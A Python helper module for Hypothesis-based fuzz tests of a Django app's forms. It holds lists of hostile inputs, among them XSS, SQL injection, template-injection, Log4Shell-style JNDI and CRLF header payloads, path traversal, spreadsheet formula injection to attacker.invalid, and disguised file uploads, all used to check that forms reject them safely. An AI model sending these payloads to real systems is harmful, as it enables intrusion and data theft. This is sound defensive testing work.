"""Hostile input for the form fuzz tests: hypothesis strategies, and the checks every form
must pass whatever it is sent.

A submission starts from a valid form and has a few fields replaced by something hostile,
left out, sent twice, or emptied, plus unexpected extra fields. Hypothesis shrinks a failure
towards the fewest changes, so a failing example reads as "this one field broke it".
"""

import os
from contextlib import contextmanager

from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# Examples per form. FUZZ_EXAMPLES=500 makes a deeper (slower) run, e.g. nightly.
EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "30"))

fuzz_settings = settings(
    max_examples=EXAMPLES,
    deadline=None,
    # Nothing is written to a .hypothesis folder in the project: each run explores afresh.
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

# Every character a browser can send. Lone surrogates cannot be encoded as UTF-8, so no
# browser sends them and the test client could not either.
CHARACTERS = st.characters(codec="utf-8")

HOSTILE = [
    # HTML and script
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ request.user.password }}{% debug %}",
    "${jndi:ldap://attacker.invalid/a}",
    # SQL-looking text
    "'; DROP TABLE users_user; --",
    "' OR '1'='1' --",
    "1; SELECT pg_sleep(10); --",
    "%' AND 1=1 --",
    # Control characters and NUL bytes (PostgreSQL text columns refuse NUL)
    "\x00",
    "before\x00after",
    "\x01\x02\x07\x08\x1b[31mred\x7f",
    "line\x0bbreak\x0cfeed",
    "\r\n\r\nSet-Cookie: stolen=1",
    # Unicode: right-to-left, emoji, combining marks, invisible characters
    "\u202egpj.exe",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "\U0001f469\U0001f3fd\u200d\U0001f9af \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f3f3\ufe0f\u200d\U0001f308",
    "Z\u0334\u0321\u032a\u034e\u0344a\u0338\u031b\u0353l\u0335\u0322\u031bg\u0334o\u0337",
    "e" + "\u0301" * 300,
    "\ufeff\u200b\u200d\u2060",
    "\uffff\U0010ffff",
    # Whitespace only
    " ",
    "\t\n",
    "\u00a0\u3000",
    # Formula injection for spreadsheets, paths, format strings
    '=HYPERLINK("http://attacker.invalid","click")',
    "../../../../etc/passwd",
    "%s%n%x%d",
    # Words that mean "nothing" to some code
    "null",
    "None",
    "undefined",
    "[]",
    "{}",
    "true",
]

NUMBERS = [
    "-1",
    "0",
    "-0",
    "1e308",
    "1e400",
    "9" * 40,
    "-" + "9" * 40,
    "0x1F",
    "1_000",
    "Infinity",
    "-Infinity",
    "NaN",
    "1.5",
    "0.001",
    "£-12.50",
    "£1,000,000,000.00",
    "12,50",
    "\uff11\uff12",  # full-width digits
    "\u0661\u0662\u0663",  # Arabic-Indic digits
    "\u00bd",
    "\u00b2",  # superscript two: a digit to str.isdigit(), not to int()
    "1\u00b9",
    "2147483648",
    "-2147483649",
    "9223372036854775808",
]

DATES = [
    "31/02/2026",
    "29/2/2025",
    "0/0/0",
    "1/1/0001",
    "31/12/9999",
    "1/1/10000",
    "2026-13-45",
    "99999999",
    "32",
    "yesterday",
    "01/01/1900",
]


def long_text(min_size=150, max_size=12_000):
    """A long string made by repeating a few characters (cheaper than drawing each one)."""
    return st.builds(
        lambda chunk, size: (chunk * (size // len(chunk) + 1))[:size],
        st.text(CHARACTERS, min_size=1, max_size=4),
        st.integers(min_size, max_size),
    )


def any_text(max_size=60):
    return st.one_of(st.text(CHARACTERS, max_size=max_size), st.sampled_from(HOSTILE))


numbers = st.one_of(
    st.sampled_from(NUMBERS),
    st.integers(-(10**25), 10**25).map(str),
    st.floats().map(str),
    st.decimals(allow_nan=True).map(str),
)

dates = st.sampled_from(DATES)

junk = st.one_of(any_text(), long_text(), numbers, dates)

EXTRA_KEYS = [
    "id",
    "pk",
    "is_superuser",
    "is_staff",
    "owner",
    "claimant",
    "amount_pence",
    "created_by",
    "__proto__",
    "x" * 300,
]


@st.composite
def submissions(draw, valid: dict, *, fields: dict | None = None, changes: int = 4):
    """A valid form with up to `changes` fields made hostile, missing, doubled or empty.

    `fields` gives a field its own strategy (e.g. files); others get `junk`.
    """
    fields = fields or {}
    data = dict(valid)
    names = sorted(set(valid) | set(fields))
    for name in draw(st.lists(st.sampled_from(names), unique=True, max_size=changes)):
        strategy = fields.get(name, junk)
        how = draw(st.sampled_from(["hostile", "hostile", "hostile", "missing", "twice", "empty"]))
        if how == "missing":
            data.pop(name, None)
        elif how == "empty":
            data[name] = ""
        elif how == "twice":
            data[name] = draw(st.lists(strategy, min_size=2, max_size=3))
        else:
            data[name] = draw(strategy)
    for key, value in draw(st.dictionaries(st.sampled_from(EXTRA_KEYS), junk, max_size=2)).items():
        data.setdefault(key, value)
    return data


# --- Files ---------------------------------------------------------------------------------

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"

# (name, content, content type): made into a fresh upload for each example.
BAD_FILES = [
    ("receipt.pdf", b"<html><script>alert(1)</script></html>", "application/pdf"),
    ("receipt.png", b"", "image/png"),
    ("a" * 300 + ".pdf", PDF, "application/pdf"),
    ("receipt.exe", b"MZ\x90\x00\x03\x00\x00\x00", "application/octet-stream"),
    ("receipt.svg", b'<svg onload="alert(1)"/>', "image/svg+xml"),
    ("receipt.pdf", PNG, "text/html"),  # a real PNG sent with the wrong type: accepted as PNG
    ("../../../etc/passwd.pdf", PDF, "application/pdf"),
    ("\u202egpj.exe", PNG, "image/png"),
    ("receipt.pdf", b"%PDF", "application/pdf"),  # a PDF signature and nothing else
    ("receipt.zip", b"PK\x03\x04" + b"\x00" * 100, "application/zip"),
]
GOOD_FILES = [("bus-ticket.png", PNG, "image/png"), ("train.pdf", PDF, "application/pdf")]

upload_specs = st.sampled_from(BAD_FILES + GOOD_FILES)


def upload(spec) -> SimpleUploadedFile:
    name, content, content_type = spec
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- Checks --------------------------------------------------------------------------------


@contextmanager
def isolated():
    """Run one example in a savepoint that is rolled back, with an empty cache, so examples
    cannot affect each other (and rate limits never carry over)."""
    cache.clear()
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def snapshot(tables) -> dict:
    """Every row of each table, to compare before and after a request. A table is a model,
    or a (model, fields to leave out) pair for columns a request may legitimately touch."""
    rows = {}
    for table in tables:
        model, leave_out = table if isinstance(table, tuple) else (table, ())
        values = model._base_manager.order_by("pk").values()
        rows[model._meta.label] = [
            {k: v for k, v in row.items() if k not in leave_out} for row in values
        ]
    return rows


def sent(data: dict, name: str, default=""):
    """What a form field receives for `name`: the last value when a key is sent twice."""
    value = data.get(name, default)
    if isinstance(value, list):
        return value[-1] if value else default
    return value


def normalised(text) -> str:
    """Text as the hub keeps it: ends trimmed, line endings made "\\n" (what forms do)."""
    return str(text).replace("\r\n", "\n").replace("\r", "\n").strip()


def assert_kept(saved, data, name):
    expected = normalised(sent(data, name))
    assert normalised(saved) == expected, f"{name}: saved {saved!r}, sent {expected!r}"


# Django's own error messages: written for developers, they tell nobody what to do. Every
# form says what is wrong in the hub's words ("Enter your password", "Enter a number of
# places, 0 or more").
DJANGO_DEFAULT_WORDS = (
    "This field is required.",
    "Enter a whole number.",
    "Enter a number.",
    "Enter a valid date.",
    "Enter a valid time.",
    "Enter a valid email address.",
    "Enter a valid URL.",
    "Select a valid choice.",
    "Enter a list of values.",
    "Ensure this value",
    "Ensure that there are no more than",
    "No file was submitted.",
    "The submitted file is empty.",
    "Null characters are not allowed.",
)


def check_response(response, *, before, tables, saved=None, reshown_ok=None):
    """The rules for every form:

    - never a server error;
    - a page shown again (200) has the GOV.UK error summary, in the hub's own words, and
      changed nothing;
    - any other refusal (400, 403, 404, 429) changed nothing;
    - a redirect means it was accepted: `saved()` checks what was kept matches what was sent.
    """
    status = response.status_code
    assert status < 500, f"server error {status}"
    if status in (301, 302, 303):
        if saved is not None:
            saved(response)
        return "saved"
    body = response.content.decode(errors="replace")
    if status == 200 and not (reshown_ok and reshown_ok(response, body)):
        assert "govuk-error-summary" in body, "form shown again without the error summary"
        defaults = [words for words in DJANGO_DEFAULT_WORDS if words in body]
        assert not defaults, f"Django's own error messages shown: {defaults}"
    assert snapshot(tables) == before, "a refused form changed the database"
    return "refused"
